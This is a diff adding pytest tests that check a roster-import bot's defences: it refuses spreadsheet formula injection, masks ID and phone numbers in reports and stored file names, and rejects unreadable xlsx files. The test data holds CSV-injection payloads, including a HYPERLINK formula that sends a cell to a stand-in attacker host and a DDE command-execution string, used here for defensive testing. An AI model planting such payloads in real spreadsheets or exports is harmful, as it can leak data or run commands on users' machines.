@@ -10,10 +10,10 @@ from typing import Any
 import pytest
 from sqlalchemy import func, select, text
 
-from bot.store import ids
+from bot.store import digits, ids
 from bot.store.imports import ImportRefused, ImportResult, import_file
 from bot.store.models import AuditLog, Contact, Payment, Resident, ResidentCategory
-from tests.store import rosters
+from tests.store import hostile, rosters
 from tests.store.backends import HMAC_KEY, Store
 
 TODAY = dt.date(2024, 11, 20)
@@ -282,3 +282,82 @@ async def test_the_documented_samples_import_cleanly(store: Store, tmp_path: Pat
         result = await run(store, kind, copy)
         assert result.ok and result.inserted == result.rows > 0, (name, result.error_sample)
     assert await count(store, Resident) == 17 and await count(store, Payment) == 6
+
+
+# -- hostile rosters ---------------------------------------------------------------------------------
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\t=1+1", "＝1+1", "张三=1", 'HYPERLINK("x")', "李\x07四"]
+
+
+async def test_formulas_in_names_and_places_are_refused(store: Store, tmp_path: Path) -> None:
+    rows = rosters.residents(len(FORMULAS) * 2)
+    for i, formula in enumerate(FORMULAS):
+        rows[2 * i][1] = formula  # 姓名
+        rows[2 * i + 1][4] = formula  # 村(社区)
+    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows)
+    result = await run(store, "residents", path)
+    assert result.errors == len(rows) and await count(store, Resident) == 0
+    assert all("公式" in e.reason or "人名" in e.reason for e in result.error_sample), reasons(result)
+    with result.errors_path.open(encoding="utf-8-sig", newline="") as f:
+        report = list(csv.reader(f))[1:]
+    shown = [line[2] for line in report]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for line in report for cell in line)
+    assert "'" + FORMULAS[0][:40] in shown and "'+cmd|' /C calc'!A0" in shown  # quoted cells are cut at 40
+
+    people = rosters.residents(3)
+    assert (await run(store, "residents", rosters.write_csv(tmp_path / "ok.csv", rosters.RESIDENT_HEADER,
+                                                            people))).ok
+    pays = rosters.payments(people)
+    pays[0][4] = "=1+1"  # 缴费渠道
+    result = await run(store, "payments", rosters.write_csv(tmp_path / "p.csv", rosters.PAYMENT_HEADER, pays))
+    assert list(reasons(result)) == [2] and "缴费渠道含有公式" in reasons(result)[2]
+    contacts = [["经办人", "崇文镇", "@虚构甲", "13800000001"], ["经办人", "=崇文镇", "虚构乙", "13800000002"]]
+    result = await run(store, "contacts", rosters.write_csv(tmp_path / "c.csv", rosters.CONTACT_HEADER, contacts))
+    assert set(reasons(result)) == {2, 3} and await count(store, Contact) == 0
+
+
+async def test_numbers_in_the_wrong_column_are_masked_in_every_report(store: Store, tmp_path: Path) -> None:
+    """An ID or phone number in any column, typed any way, never appears in clear on the screen or in the
+    report, and is not stored as a village (free text for a county)."""
+    rows = rosters.residents(6)
+    number, phone = rows[0][2], "13912345678"
+    rows[0][1] = number  # the ID in 姓名
+    rows[1][4] = f"{phone[:3]}\u3000{phone[3:7]}\u3000{phone[7:]}"  # a phone in 村, with ideographic spaces
+    rows[2][5] = f"+86 {phone}"  # in 身份类别
+    rows[3][3] = number.translate(str.maketrans("0123456789", "０１２３４５６７８９"))  # full-width, in 乡镇
+    rows[4][4] = f"{number[:6]}\t{number[6:]}"  # tab inside, in 村
+    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows)
+    result = await run(store, "residents", path)
+    assert set(reasons(result)) == {2, 3, 4, 5, 6}, reasons(result)
+    shown = "\n".join(f"{e.column} {e.value} {e.reason}" for e in result.error_sample)
+    report = result.errors_path.read_text(encoding="utf-8-sig")
+    for out in (shown, report):
+        assert ids.mask(number) in out and "139****5678" in out
+        for m in digits.numbers_in(out):
+            folded = digits.fold(m[0])
+            assert not digits.is_id_shaped(folded) and not digits.mobile(folded), m[0]
+    assert await count(store, Resident) == 0
+
+
+@pytest.mark.parametrize(("name", "builder"), hostile.HOSTILE_XLSX.values(), ids=hostile.HOSTILE_XLSX.keys())
+async def test_unreadable_files_are_refused_and_leave_no_report(store: Store, tmp_path: Path, name: str,
+                                                                builder: Any) -> None:
+    path = builder(tmp_path / name)
+    stale = tmp_path / f"{name}.errors.csv"
+    stale.write_text("an earlier attempt's report", encoding="utf-8")
+    with pytest.raises(ImportRefused, match=f"无法读取 {name}："):
+        await run(store, "residents", path)
+    assert not stale.exists() and await count(store, Resident) == 0
+
+
+async def test_a_number_in_the_file_name_is_not_stored(store: Store, tmp_path: Path) -> None:
+    people = rosters.residents(3)
+    assert (await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))).ok
+    path = rosters.write_csv(tmp_path / "张三13912345678.csv", rosters.PAYMENT_HEADER, rosters.payments(people))
+    assert (await run(store, "payments", path)).inserted == 3
+    async with store.sessions() as s:
+        sources = set((await s.execute(select(Payment.source))).scalars())
+        files = [a.detail["file"] for a in (await s.execute(select(AuditLog))).scalars()]
+    assert sources == {"import:张三139****5678.csv"} and files[-1] == "张三139****5678.csv"
